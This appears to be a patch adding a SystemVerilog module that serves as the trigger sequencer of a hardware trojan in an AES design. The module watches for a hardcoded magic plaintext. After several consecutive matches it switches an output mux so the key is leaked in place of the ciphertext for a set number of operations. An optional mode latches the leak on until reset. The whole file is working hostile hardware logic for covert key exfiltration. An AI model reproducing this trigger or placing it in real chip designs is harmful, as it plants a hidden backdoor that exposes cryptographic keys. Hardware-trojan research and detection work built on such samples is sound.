trojan_trigger_ctrl: RTL

Sequencer that drives the key/ciphertext output-select line of the trojan datapath. It watches the plaintext stream for a configurable magic value. After MATCH_COUNT consecutive matches it asserts sample_trojan_trigger for exactly LEAK_OPS AES completions, then disarms. It sits between the AES input interface and the trojan output mux, and is the only source of that mux's select line.

---
 rtl/trojan_trigger_ctrl.sv | 125 ++++++++++++
 1 files changed

// File: rtl/trojan_trigger_ctrl.sv
// Plaintext-pattern trigger sequencer driving the trojan output-mux select line.
// Optional macro TRIG_STICKY_EN: after the leak window the trigger latches high (HOLD) until reset.
module trojan_trigger_ctrl #(
  parameter logic [127:0] MAGIC_PT    = 128'h0123_4567_89AB_CDEF_FEDC_BA98_7654_3210,
  parameter int           MATCH_COUNT = 4,
  parameter int           LEAK_OPS    = 2,
  parameter int           CNT_W       = 8
) (
  input  logic               clk,
  input  logic               rst_n,
  input  logic               pt_valid,
  input  logic [127:0]       plaintext,
  input  logic               aes_done,
  output logic               sample_trojan_trigger,
  output logic [1:0]         trig_state,
  output logic [CNT_W-1:0]   match_cnt,
  output logic [7:0]         fire_count
);

  typedef enum logic [1:0] {
    ST_IDLE = 2'b00,
    ST_LEAK = 2'b01,
    ST_HOLD = 2'b10,
    ST_ILL  = 2'b11
  } state_e;

  localparam logic [CNT_W-1:0] CNT_ZERO   = {CNT_W{1'b0}};
  localparam logic [CNT_W-1:0] CNT_ONE    = CNT_W'(1);
  localparam logic [CNT_W-1:0] MATCH_LAST = CNT_W'(MATCH_COUNT - 1);
  localparam logic [CNT_W-1:0] LEAK_LAST  = CNT_W'(LEAK_OPS - 1);

  state_e           state_q, state_d;
  logic             trig_q, trig_d;
  logic [CNT_W-1:0] match_q, match_d;
  logic [CNT_W-1:0] leak_q, leak_d;
  logic [7:0]       fire_q, fire_d;

  // Next-state and next-output computation for the trigger sequencer.
  always_comb begin
    state_d = state_q;
    trig_d  = trig_q;
    match_d = match_q;
    leak_d  = leak_q;
    fire_d  = fire_q;
    case (state_q)
      ST_IDLE: begin
        trig_d = 1'b0;
        if (pt_valid) begin
          if (plaintext == MAGIC_PT) begin
            if (match_q == MATCH_LAST) begin
              state_d = ST_LEAK;
              trig_d  = 1'b1;
              match_d = CNT_ZERO;
              leak_d  = CNT_ZERO;
            end else begin
              match_d = match_q + CNT_ONE;
            end
          end else begin
            match_d = CNT_ZERO;
          end
        end else begin
          match_d = match_q;
        end
      end
      ST_LEAK: begin
        trig_d  = 1'b1;
        match_d = CNT_ZERO;
        if (aes_done) begin
          if (leak_q == LEAK_LAST) begin
            fire_d = (fire_q == 8'd255) ? 8'd255 : fire_q + 8'd1;
            leak_d = CNT_ZERO;
`ifdef TRIG_STICKY_EN
            state_d = ST_HOLD;
            trig_d  = 1'b1;
`else
            state_d = ST_IDLE;
            trig_d  = 1'b0;
`endif
          end else begin
            leak_d = leak_q + CNT_ONE;
          end
        end else begin
          leak_d = leak_q;
        end
      end
`ifdef TRIG_STICKY_EN
      ST_HOLD: begin
        // Latched until rst_n: every strobe is ignored here.
        trig_d  = 1'b1;
        match_d = CNT_ZERO;
        leak_d  = CNT_ZERO;
      end
`endif
      default: begin
        state_d = ST_IDLE;
        trig_d  = 1'b0;
        match_d = CNT_ZERO;
        leak_d  = CNT_ZERO;
      end
    endcase
  end

  // State and output registers with asynchronous reset.
  always_ff @(posedge clk or negedge rst_n) begin
    if (!rst_n) begin
      state_q <= ST_IDLE;
      trig_q  <= 1'b0;
      match_q <= CNT_ZERO;
      leak_q  <= CNT_ZERO;
      fire_q  <= 8'd0;
    end else begin
      state_q <= state_d;
      trig_q  <= trig_d;
      match_q <= match_d;
      leak_q  <= leak_d;
      fire_q  <= fire_d;
    end
  end

  assign sample_trojan_trigger = trig_q;
  assign trig_state            = state_q;
  assign match_cnt             = match_q;
  assign fire_count            = fire_q;

endmodule
